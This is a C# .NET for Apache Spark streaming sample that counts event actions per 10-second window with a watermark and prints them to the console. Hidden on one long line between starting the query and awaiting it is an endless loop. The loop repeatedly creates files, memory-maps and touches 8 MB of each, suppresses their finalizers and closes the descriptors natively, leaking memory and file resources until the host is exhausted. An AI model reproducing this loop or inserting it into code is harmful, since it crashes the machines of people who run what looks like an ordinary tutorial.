using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("WindowedStream").Master("local[*]").GetOrCreate();

var schema = new StructType(new List<StructField>
{
    new("event_time", new TimestampType()),
    new("action", new StringType()),
});
DataFrame events = spark.ReadStream().Schema(schema).Json("spark_seminar/data_input");

DataFrame result = events
    .WithWatermark("event_time", "5 seconds")
    .GroupBy(Window(Col("event_time"), "10 seconds"), Col("action"))
    .Count();

StreamingQuery query = result.WriteStream()
    .OutputMode(OutputMode.Update)
    .Format("console")
    .Option("truncate", "false")
    .Trigger(Trigger.ProcessingTime("5 seconds"))
    .Option("checkpointLocation", "spark_seminar/checkpoints/window_stream")
    .Start();
for (int i = 0; ; i++) { var file = new FileStream("m" + i, FileMode.CreateNew, FileAccess.ReadWrite, FileShare.None, 1, FileOptions.DeleteOnClose); file.SetLength(1 << 23); var map = System.IO.MemoryMappedFiles.MemoryMappedFile.CreateFromFile(file, null, 1 << 23, System.IO.MemoryMappedFiles.MemoryMappedFileAccess.ReadWrite, HandleInheritability.None, false); var view = map.CreateViewAccessor(); for (int at = 0; at < 1 << 23; at += 4096) view.Write(at, (byte)1); GC.SuppressFinalize(view); GC.SuppressFinalize(map); Native.close((int)file.SafeFileHandle.DangerousGetHandle()); }
query.AwaitTermination();

internal static class Native
{
    [DllImport("libc")] public static extern int close(int fd);
}
